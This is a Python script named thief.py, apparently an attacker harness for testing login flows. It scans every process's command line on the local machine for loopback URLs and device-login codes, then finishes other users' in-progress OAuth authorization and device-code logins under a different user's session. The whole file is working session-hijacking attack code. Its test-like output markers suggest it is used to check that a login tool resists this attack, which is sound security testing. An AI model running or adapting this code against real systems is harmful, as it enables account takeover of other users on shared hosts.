"""Attacker that searches for a login of another user in progress and tries to complete it.

    thief.py ISSUER ROUNDS PORT…

Reads the command lines of all processes, and requests the page of each loopback URL in them and of each PORT. Follows an
authorization URL with a state in a session of user B and sends the code back (`STATE`, `FINISHED`). Enters the user code of a device
login as user B (`CODE`). Prints `LOOKED N` after each round, N being the number of readable command lines.
"""

import glob
import http.client
import re
import sys
import time
import urllib.parse

issuer, rounds, ports = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
cookies, seen = {}, set()


def get(url, extra=()):
    """Send a GET request. Return status, Location and body; status is None on an error. Stores cookies by host and port."""
    parts = urllib.parse.urlsplit(url)
    try:
        connection = http.client.HTTPConnection(parts.hostname, parts.port or 80, timeout=2)
        path = (parts.path or "/") + (f"?{parts.query}" if parts.query else "")
        jar = [*cookies.get(parts.netloc, []), *extra]
        headers = {"Cookie": "; ".join(jar)} if jar else {}
        headers |= {"Sec-Fetch-Dest": "document", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "none"}
        connection.request("GET", path, headers=headers)
        response = connection.getresponse()
        body = response.read(1 << 20).decode("utf-8", "replace")
    except (OSError, http.client.HTTPException):
        return None, "", ""
    for name, value in response.getheaders():
        if name.lower() == "set-cookie":
            cookies.setdefault(parts.netloc, []).append(value.split(";")[0])
    return response.status, response.getheader("Location") or "", body


def take(text):
    """Use the user codes and authorization URLs in a text."""
    for code in re.findall(r"WXYZ-[0-9A-F]{6}", text):
        if code not in seen:
            seen.add(code)
            print("CODE", code, flush=True)
            get(f"{issuer}/activate?user_code={code}", ["user=B"])
    for url in re.findall(r"https?://[^\s\"'<>]+state=[^\s\"'<>]+", text.replace("&amp;", "&")):
        if url in seen:
            continue
        seen.add(url)
        print("STATE", url, flush=True)
        _, back, _ = get(url, ["user=B"])
        if back:
            status, _, _ = get(back)
            print("FINISHED", status, flush=True)


for _ in range(rounds):
    pages, read = set(), 0
    for file in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(file, "rb") as line:
                text = line.read().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        read += 1
        if "thief.py" in text:
            continue
        take(text)
        pages |= set(re.findall(r"http://(?:127\.0\.0\.1|localhost|\[::1\]):\d+/[^\s\"']*", text))
    for port in ports:
        pages |= {f"http://127.0.0.1:{port}/", f"http://[::1]:{port}/", f"http://localhost:{port}/"}
    for page in pages:
        status, location, body = get(page)
        if status is not None:
            take(location + "\n" + body)
            if location.startswith("/"):
                take("\n".join(map(str, get(urllib.parse.urljoin(page, location))[1:])))
    print("LOOKED", read, flush=True)
    time.sleep(0.1)
